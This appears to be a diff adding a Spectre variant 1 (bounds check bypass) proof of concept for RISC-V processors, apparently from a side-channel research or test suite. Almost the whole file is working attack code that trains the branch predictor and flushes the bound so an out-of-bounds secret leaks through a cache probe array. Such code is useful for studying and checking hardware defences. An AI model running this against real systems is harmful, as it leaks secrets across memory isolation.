@@ -0,0 +1,50 @@
+#include "../lib.c"
+
+#include "util_riscv.h"
+#include "cache.h"
+
+// Spectre-PHT (variant 1, bounds check bypass): the conditional branch of the bounds check is trained to be taken,
+// and the load behind it runs ahead with an out-of-bounds index while the bound itself is still being fetched.
+
+#include "receiver.h"
+
+#ifndef TRAIN_TIMES
+#define TRAIN_TIMES 24 // In-bounds calls before every attack. There shall be an ideal value for each machine.
+#endif
+
+// Declare a global variable that prevents the compiler from optimizing out phtVictim().
+uint8_t anchorVar = 0;
+
+uint32_t phtBound = 16; // Entries of guideArray that phtVictim() accepts. Flushed before every attack to widen the window.
+
+/**
+ * The victim: reads guideArray[targetIdx] only if targetIdx passes the bounds check.
+ * A SENDER_FN, so that training and attack run the same branch.
+ * Only the LEAK_BITS bits of the secret selected by shift are encoded, see LEAK_SLICE in receiver.h.
+ */
+SENDER_FN void phtVictim(uint32_t targetIdx, uint32_t shift){
+	if (targetIdx < phtBound){
+		anchorVar &= *PROBE_LINE(LEAK_SLICE(guideArray[targetIdx], shift));
+	}
+}
+
+/**
+ * Train the bounds check with the in-bounds index 0, whose probe line is the architectural one anyway,
+ * then evict phtBound so that the check of the next call resolves only after a miss.
+ */
+void phtTrain(uint32_t shift){
+	for (uint32_t i = 0; i < TRAIN_TIMES; i++){
+		phtVictim(0, shift);
+	}
+	flushCache((uint32_t)&phtBound, sizeof(phtBound));
+}
+
+#define ATTACK_NAME "pht"
+#define SENDER_PREPARE(targetIdx, victimIdx, shift) phtTrain((shift))
+#define SENDER_TRANSMIT(targetIdx, victimIdx, shift) phtVictim((targetIdx), (shift))
+
+#include "leak.h"
+
+void main(){
+	leakRun();
+}